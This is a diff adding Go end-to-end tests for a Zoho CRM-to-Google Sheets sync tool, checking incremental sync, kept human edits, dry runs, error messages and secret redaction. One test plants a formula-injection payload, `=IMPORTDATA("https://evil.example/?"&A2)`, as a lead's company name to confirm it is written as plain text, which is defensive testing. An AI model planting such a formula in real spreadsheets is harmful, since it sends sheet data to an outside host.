@@ -1,0 +1,225 @@
+package main
+
+import (
+	"fmt"
+	"net/http"
+	"os/exec"
+	"slices"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/zoho2sheets/zoho2sheets/zoho/zohotest"
+)
+
+var leadHeaders = []string{"Zoho ID", "Name", "Company", "Status", "Owner", "Revenue", "Modified"}
+
+// str renders a CRM value the way its text cell reads.
+func str(v any) string {
+	switch v := v.(type) {
+	case nil:
+		return ""
+	case map[string]any:
+		return str(v["name"])
+	}
+	return fmt.Sprint(v)
+}
+
+// assertLeadsMatchCRM checks the Leads tab holds exactly one row per CRM
+// lead, each with the lead's own values.
+func assertLeadsMatchCRM(t *testing.T, em *emulators) (header []any, rows map[string][]any) {
+	t.Helper()
+	header, rows = tab(t, em, "Leads", "Zoho ID")
+	for i, h := range leadHeaders {
+		if indexOf(header, h) < 0 {
+			t.Fatalf("header %q missing from %v (column %d)", h, header, i)
+		}
+	}
+	ids := em.zoho.IDs("Leads")
+	slices.Sort(ids)
+	if got := sortedKeys(rows); !slices.Equal(got, ids) {
+		t.Fatalf("rows keyed %v, want exactly the CRM's leads %v", got, ids)
+	}
+	for _, id := range ids {
+		rec, _ := em.zoho.Record("Leads", id)
+		for _, c := range []struct{ header, field string }{
+			{"Name", "Full_Name"}, {"Company", "Company"}, {"Status", "Lead_Status"}, {"Owner", "Owner"},
+		} {
+			if got, want := str(cell(header, rows[id], c.header)), str(rec[c.field]); got != want {
+				t.Errorf("lead %s %s = %q, want %q", id, c.header, got, want)
+			}
+		}
+	}
+	return header, rows
+}
+
+func TestEndToEndFullThenIncrementalKeepsHumanEdits(t *testing.T) {
+	em := newEmulators(t, map[string]int{"Leads": 30, "Deals": 10})
+	cfg := writeMapping(t, string(demoMapping))
+
+	r := runBin(t, em.env, "--once", "--config", cfg, "--log-format", "json")
+	if r.code != 0 {
+		t.Fatalf("first run exit %d\n%s", r.code, r.stderr)
+	}
+	header, _ := assertLeadsMatchCRM(t, em)
+	if got := len(em.sheets.Values(em.spreadsheetID, "Deals")); got != 11 {
+		t.Fatalf("Deals tab has %d rows, want header + 10", got)
+	}
+
+	// The CRM changes; a human adds a column, types a note and sorts.
+	z, g, id := em.zoho, em.sheets, em.spreadsheetID
+	z.Advance(time.Hour)
+	ids := z.IDs("Leads")
+	added := z.Create("Leads", map[string]any{"First_Name": "Ada", "Last_Name": "Lovelace", "Full_Name": "Ada Lovelace",
+		"Company": `=IMPORTDATA("https://evil.example/?"&A2)`, "Lead_Status": "Not Contacted"})
+	z.Update("Leads", ids[0], map[string]any{"Lead_Status": "Contacted"})
+	z.Delete("Leads", ids[1])
+	noteCol := len(header)
+	g.InsertColumn(id, "Leads", noteCol, "Next step")
+	notedID := ids[2]
+	vals := g.Values(id, "Leads")
+	for row := 1; row < len(vals); row++ {
+		if fmt.Sprint(vals[row][0]) == notedID {
+			g.SetCell(id, "Leads", row, noteCol, "call Monday")
+		}
+	}
+	g.SortRows(id, "Leads", indexOf(header, "Name"), false)
+
+	r = runBin(t, em.env, "--once", "--config", cfg, "--log-format", "json")
+	if r.code != 0 {
+		t.Fatalf("second run exit %d\n%s", r.code, r.stderr)
+	}
+	if !strings.Contains(r.stderr, `"mode":"incremental"`) {
+		t.Errorf("second run was not incremental:\n%s", r.stderr)
+	}
+	header, rows := assertLeadsMatchCRM(t, em)
+	if _, ok := rows[ids[1]]; ok {
+		t.Errorf("deleted lead %s still has a row", ids[1])
+	}
+	if got := str(cell(header, rows[added], "Company")); got != `=IMPORTDATA("https://evil.example/?"&A2)` {
+		t.Errorf("formula-like company = %q", got)
+	}
+	for key, row := range rows {
+		note := str(cell(header, row, "Next step"))
+		if (key == notedID) != (note == "call Monday") {
+			t.Errorf("row %s has note %q: the human's note must stay on lead %s only", key, note, notedID)
+		}
+	}
+	c := g.Cell(id, "Leads", 1, indexOf(header, "Company"))
+	if c.Formula != "" {
+		t.Errorf("a CRM value became a formula: %+v", c)
+	}
+}
+
+func TestEndToEndKilledHalfWayThenRerunEndsExact(t *testing.T) {
+	em := newEmulators(t, map[string]int{"Leads": 300, "Deals": 40})
+	cfg := writeMapping(t, string(demoMapping))
+
+	cmd := exec.Command(binPath, "--once", "--config", cfg)
+	cmd.Env = []string{"HOME=" + t.TempDir()}
+	for k, v := range em.env {
+		cmd.Env = append(cmd.Env, k+"="+v)
+	}
+	// Kill the process as its first write to the spreadsheet arrives.
+	var killed atomic.Bool
+	em.sheets.OnRequest(func(r *http.Request) {
+		if r.Method == http.MethodPost && strings.Contains(r.URL.Path, "values:batchUpdate") && killed.CompareAndSwap(false, true) {
+			cmd.Process.Kill()
+		}
+	})
+	_ = cmd.Run()
+	if !killed.Load() {
+		t.Fatal("the run never reached a write")
+	}
+	em.sheets.OnRequest(nil)
+
+	r := runBin(t, em.env, "--once", "--config", cfg)
+	if r.code != 0 {
+		t.Fatalf("rerun exit %d\n%s", r.code, r.stderr)
+	}
+	assertLeadsMatchCRM(t, em)
+	r = runBin(t, em.env, "--once", "--config", cfg, "--full")
+	if r.code != 0 {
+		t.Fatalf("full rerun exit %d\n%s", r.code, r.stderr)
+	}
+	assertLeadsMatchCRM(t, em)
+}
+
+func TestEndToEndDryRunChangesNothing(t *testing.T) {
+	em := newEmulators(t, map[string]int{"Leads": 10, "Deals": 3})
+	cfg := writeMapping(t, string(demoMapping))
+	if r := runBin(t, em.env, "--once", "--config", cfg); r.code != 0 {
+		t.Fatalf("exit %d\n%s", r.code, r.stderr)
+	}
+	em.zoho.Advance(time.Hour)
+	em.zoho.Update("Leads", em.zoho.IDs("Leads")[0], map[string]any{"Lead_Status": "Junk Lead"})
+	before := em.sheets.Values(em.spreadsheetID, "Leads")
+	writes := em.sheets.Stats().Writes
+
+	r := runBin(t, em.env, "--once", "--config", cfg, "--dry-run")
+	if r.code != 0 {
+		t.Fatalf("dry run exit %d\n%s", r.code, r.stderr)
+	}
+	if got := em.sheets.Stats().Writes; got != writes {
+		t.Fatalf("dry run sent %d write requests", got-writes)
+	}
+	if !slices.EqualFunc(before, em.sheets.Values(em.spreadsheetID, "Leads"), func(a, b []any) bool { return fmt.Sprint(a) == fmt.Sprint(b) }) {
+		t.Fatal("dry run changed the tab")
+	}
+	if !strings.Contains(r.stdout, "dry run") || !strings.Contains(r.stdout, "Leads") {
+		t.Fatalf("dry run printed no plan:\n%s", r.stdout)
+	}
+}
+
+func TestEndToEndBadMappingNamesFileAndLine(t *testing.T) {
+	em := newEmulators(t, map[string]int{"Leads": 1})
+	cfg := writeMapping(t, "spreadsheet_id: ${SPREADSHEET_ID}\nmodules:\n  - module: Leads\n    columns:\n      - { header: Zoho ID, field: id }\n    on_delet: keep\n")
+	r := runBin(t, em.env, "--once", "--config", cfg)
+	if r.code != 2 {
+		t.Fatalf("exit %d, want 2\n%s", r.code, r.stderr)
+	}
+	if !strings.Contains(r.stderr, cfg+":6") || !strings.Contains(r.stderr, "on_delete") {
+		t.Fatalf("stderr should name %s:6 and suggest on_delete:\n%s", cfg, r.stderr)
+	}
+	if em.sheets.Stats().Writes != 0 {
+		t.Fatal("a configuration error must not write")
+	}
+}
+
+func TestEndToEndMissingCredentialNamesVariable(t *testing.T) {
+	em := newEmulators(t, map[string]int{"Leads": 1})
+	cfg := writeMapping(t, string(demoMapping))
+	vars := map[string]string{}
+	for k, v := range em.env {
+		vars[k] = v
+	}
+	secret := vars["ZOHO_CLIENT_SECRET"]
+	delete(vars, "ZOHO_CLIENT_SECRET")
+	r := runBin(t, vars, "--once", "--config", cfg)
+	if r.code != 2 || !strings.Contains(r.stderr, "ZOHO_CLIENT_SECRET") {
+		t.Fatalf("exit %d, want 2 naming ZOHO_CLIENT_SECRET:\n%s", r.code, r.stderr)
+	}
+	if strings.Contains(r.stderr, vars["ZOHO_REFRESH_TOKEN"]) || strings.Contains(r.stderr, secret) {
+		t.Fatal("a secret reached stderr")
+	}
+}
+
+func TestEndToEndFailingModuleExits1OthersWritten(t *testing.T) {
+	em := newEmulators(t, map[string]int{"Leads": 5, "Deals": 5})
+	cfg := writeMapping(t, string(demoMapping))
+	em.zoho.InjectFault(zohotest.Fault{Path: "/crm/v8/Deals", Status: 403, Code: "NO_PERMISSION", Message: "permission denied", Times: -1})
+	r := runBin(t, em.env, "--once", "--config", cfg, "--log-format", "json")
+	if r.code != 1 {
+		t.Fatalf("exit %d, want 1\n%s", r.code, r.stderr)
+	}
+	assertLeadsMatchCRM(t, em)
+	if !strings.Contains(r.stderr, `"module":"Deals"`) {
+		t.Fatalf("the failing module is not named:\n%s", r.stderr)
+	}
+	for _, s := range []string{em.env["ZOHO_CLIENT_SECRET"], em.env["ZOHO_REFRESH_TOKEN"]} {
+		if strings.Contains(r.stderr+r.stdout, s) {
+			t.Fatal("a secret reached the output")
+		}
+	}
+}
